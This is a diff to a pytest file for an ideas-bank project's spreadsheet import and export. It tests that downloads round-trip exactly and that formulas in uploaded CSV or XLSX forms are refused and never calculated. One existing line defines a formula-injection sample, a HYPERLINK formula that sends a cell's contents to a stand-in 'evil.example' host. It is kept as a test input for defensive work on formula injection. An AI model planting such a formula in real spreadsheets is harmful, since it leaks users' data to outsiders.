@@ -8,6 +8,7 @@ back exactly as it went out."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 import re
@@ -22,9 +23,11 @@ from openpyxl import load_workbook
 
 from generator import form
 from generator.load import load
+from generator.officers.importer import run_import
 from generator.publish import downloads
+from hostile_sheets import GOOD_ROW, HEADERS, MAIN, cell, worksheet, xlsx
 
-MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+TODAY = dt.date(2024, 3, 1)
 OFFICE = 'name: {bn: "জনপ্রশাসন মন্ত্রণালয়", en: "Ministry of Public Administration"}\nkind: ministry\n'
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A3,"{}")'
 IDEAS = {  # slug → the form's fields, as a contributor might write them
@@ -102,6 +105,61 @@ def test_the_xlsx_download_has_text_cells_and_no_formula(ideas, lang):
     read = load_workbook(io.BytesIO(data)).active
     assert {c.data_type for row in read.iter_rows() for c in row} <= {"s", "inlineStr"}
     assert [[c.value or "" for c in row] for row in read.iter_rows()] == texts
+
+
+@pytest.mark.parametrize("lang, writer", [("bn", downloads.csv_bytes), ("en", downloads.csv_bytes),
+                                          ("bn", downloads.xlsx_bytes), ("en", downloads.xlsx_bytes)])
+def test_a_download_imports_back_exactly(ideas, tmp_path, lang, writer):
+    other = _bank(tmp_path / "other")
+    exported = other / ("form.xlsx" if writer is downloads.xlsx_bytes else "form.csv")
+    exported.write_bytes(writer(ideas, lang))
+    result = run_import(other, exported, "mopa", today=TODAY)
+    assert [o.action for o in result.outcomes] == ["created", "created"], [r.en for o in result.outcomes for r in o.reasons]
+    bank, problems = load(other / "content")
+    assert problems == []
+    back = {r.item.title.get(lang): r.item for r in bank.ideas.values()}
+    assert form.rows([back[i.title.get(lang)] for i in ideas], lang) == form.rows(ideas, lang)
+    assert back[ideas[0].title.get(lang)].summary.get(lang).startswith("- "), "a dash stays a dash"
+
+
+# ---- the importer ---------------------------------------------------------------------------
+
+def test_a_formula_in_the_form_is_refused_and_never_calculated(tmp_path):
+    """Row 3 holds a formula with the result Excel saved, row 4 one with no result (as programs
+    that do not calculate write it); both are refused, naming the column and the formula. Row 5
+    is text that starts with "=", row 6 has a formula outside the form's columns: both imported."""
+    root = _bank(tmp_path)
+    rows = (
+        '<row r="3"><c r="A3" t="str"><f>CONCATENATE("ভূমি"," সেবা")</f><v>ভূমি সেবা</v></c>'
+        + cell("B3", "নামজারি।") + cell("C3", "হ্যাঁ") + "</row>"
+        '<row r="4"><c r="A4"><f>1+1</f></c>' + cell("B4", "বিবরণ।") + cell("C4", "হ্যাঁ") + "</row>"
+        '<row r="5">' + cell("A5", "=1+1") + cell("B5", "+ এক") + cell("C5", "হ্যাঁ") + "</row>"
+        '<row r="6">' + cell("A6", "হেল্প ডেস্ক") + cell("B6", "বিবরণ।") + cell("C6", "হ্যাঁ")
+        + '<c r="H6" t="str"><f>NOW()</f><v>45000</v></c></row>')
+    (root / "form.xlsx").write_bytes(xlsx(worksheet(rows)))
+    result = run_import(root, root / "form.xlsx", "mopa", today=TODAY)
+    outcome = {o.row: o for o in result.outcomes}
+    assert [outcome[n].action for n in (2, 3, 4, 5, 6)] == ["created", "skipped", "skipped", "created", "created"]
+    header = f'A "{HEADERS[0]}"'
+    assert [r.en for r in outcome[3].reasons] == [
+        f'Column {header} holds a formula (=CONCATENATE("ভূমি"," সেবা")); the bank imports what a cell says, '
+        "not a formula. In Excel copy the column, then Paste Special → Values, and import again."]
+    assert "সূত্র" in outcome[3].reasons[0].bn
+    assert outcome[4].reasons[0].en.startswith(f"Column {header} holds a formula (=1+1)")
+    titles = {r.item.title.bn: r.item for r in load(root / "content")[0].ideas.values()}
+    assert set(titles) == {GOOD_ROW[0], "=1+1", "হেল্প ডেস্ক"}
+    assert titles["=1+1"].summary.bn == "+ এক"
+
+
+def test_a_csv_cell_loses_the_quote_the_downloads_put_in_front(tmp_path):
+    root = _bank(tmp_path)
+    lines = [",".join(HEADERS), "'=1+1,'- ত্রিশ শতাংশ কম সময়,হ্যাঁ,,,,'@SUM(1+1)", "=2+2,''+ দুই,হ্যাঁ,,,,"]
+    (root / "form.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = run_import(root, root / "form.csv", "mopa", today=TODAY)
+    assert [o.action for o in result.outcomes] == ["created", "created"]
+    ideas = {r.item.title.bn: r.item for r in load(root / "content")[0].ideas.values()}
+    assert ideas["=1+1"].summary.bn == "- ত্রিশ শতাংশ কম সময়" and ideas["=1+1"].service.remarks.bn == "@SUM(1+1)"
+    assert ideas["=2+2"].summary.bn == "'+ দুই"  # one quote taken off, as as_text put one on
 
 
 # ---- the rule -------------------------------------------------------------------------------
